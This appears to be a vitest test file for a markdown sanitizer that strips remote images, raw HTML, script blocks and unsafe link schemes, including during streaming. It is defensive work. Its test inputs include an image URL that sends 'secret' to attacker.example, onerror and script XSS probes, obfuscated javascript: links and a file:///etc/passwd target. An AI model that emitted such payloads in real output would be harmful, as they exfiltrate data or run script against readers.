import { describe, expect, it } from "vitest";
import { isSafeLinkUrl, neutralizeMarkdown, SafeDraft } from "./safe-markdown";

describe("neutralizeMarkdown", () => {
  it.each([
    ["a remote image", "See ![x](http://attacker.example/p.png?q=secret) here.", "See (image removed: x) here."],
    ["an image with a title", '![logo](https://a.example/l.png "t")', "(image removed: logo)"],
    ["an image without alt text", "![](//attacker.example/p.png)", "(image removed)"],
    ["an image by reference", "![x][img]\n\n[img]: http://attacker.example/p.png", "(image removed: x)\n\n[img]: http://attacker.example/p.png"],
    ["an image with Markdown in its alt", "![*a* `b` <i>c</i>](http://x.example/p)", "(image removed: a b c)"],
    [
      "a raw inline img tag",
      'Hi <img src="http://attacker.example/p" onerror="alert(1)"> there',
      'Hi &lt;img src="http://attacker.example/p" onerror="alert(1)"> there',
    ],
    ["a script block", "Text\n\n<script>alert(1)</script>\n", "Text\n\n&lt;script>alert(1)&lt;/script>\n"],
    ["an html comment", "a <!-- hidden --> b", "a &lt;!-- hidden --> b"],
    ["a javascript: link", "[click](javascript:alert(1))", "click (link removed)"],
    ["a javascript: link in any case", "[click](JaVaScRiPt:alert(1))", "click (link removed)"],
    ["a javascript: link written with an entity", "[click](java&#115;cript:alert(1))", "click (link removed)"],
    ["a data: link", "[d](data:text/html;base64,PHNjcmlwdD4=)", "d (link removed)"],
    ["a javascript: autolink", "go <javascript:alert(1)> now", "go javascript:alert(1) (link removed) now"],
    ["a javascript: definition", "[x][r]\n\n[r]: javascript:alert(1)\n", "[x][r]\n\n\n"],
    ["an image inside a link", "[![i](http://a.example/p)](https://b.example)", "[(image removed: i)](https://b.example)"],
    ["an image inside a javascript: link", "[![i](http://a.example/p)](javascript:x)", "(image removed: i) (link removed)"],
    ["an image in a table cell (GFM)", "| a | b |\n| - | - |\n| ![x](http://a.example/p) | 1 |", "| a | b |\n| - | - |\n| (image removed: x) | 1 |"],
  ])("neutralizes %s", (_what, input, expected) => {
    expect(neutralizeMarkdown(input)).toBe(expected);
  });

  it.each([
    ["a citation", "The limit is checked in `checkLimit` [E1 src/limits.ts:10-24] and [E2 src/b.ts:7]."],
    ["code spans with markup", "Use `![x](http://a/p)` and `<img src=x>` literally."],
    ["a fenced block", "```html\n<script>alert(1)</script>\n<img src=x>\n![x](http://a/p)\n```"],
    ["an indented code block", "Example:\n\n    <script>alert(1)</script>\n"],
    ["ordinary links", "See [the docs](https://example.com/docs), [a file](src/a.ts#L3), [mail](mailto:a@b.example) and <https://example.com>."],
    ["comparisons and generics", "If a < b and c > d, use Map<string, number> (not `Map<>`)!"],
    ["an escaped image", "Write \\![x](y) to show the syntax."],
  ])("keeps %s unchanged", (_what, input) => {
    expect(neutralizeMarkdown(input)).toBe(input);
  });

  it("judges link targets by scheme, ignoring spaces and control characters in it", () => {
    for (const ok of ["https://a.example", "HTTP://a", "mailto:a@b", "src/a.ts", "#anchor", "/abs", "//host/p", "?q=1"])
      expect(isSafeLinkUrl(ok), ok).toBe(true);
    for (const bad of ["javascript:alert(1)", " javascript:x", "java\tscript:x", "java\nscript:x", "vbscript:x", "data:text/html,x", "file:///etc/passwd"])
      expect(isSafeLinkUrl(bad), bad).toBe(false);
  });
});

describe("SafeDraft", () => {
  it("streams plain text as it comes and never sends a completed image", () => {
    const d = new SafeDraft();
    expect(d.push("The answer ")).toEqual({ reset: false, text: "The answer " });
    // Incomplete: not an image yet, so it goes out as text.
    expect(d.push("![x](http://attacker.example/p")).toEqual({ reset: false, text: "![x](http://attacker.example/p" });
    // Completed: the draft is replaced by its neutralized form.
    expect(d.push(".png) is `<b>`.")).toEqual({ reset: true, text: "The answer (image removed: x) is `<b>`." });
    expect(d.push(" Done.")).toEqual({ reset: false, text: " Done." });
    d.clear();
    expect(d.push("again")).toEqual({ reset: false, text: "again" });
  });
});
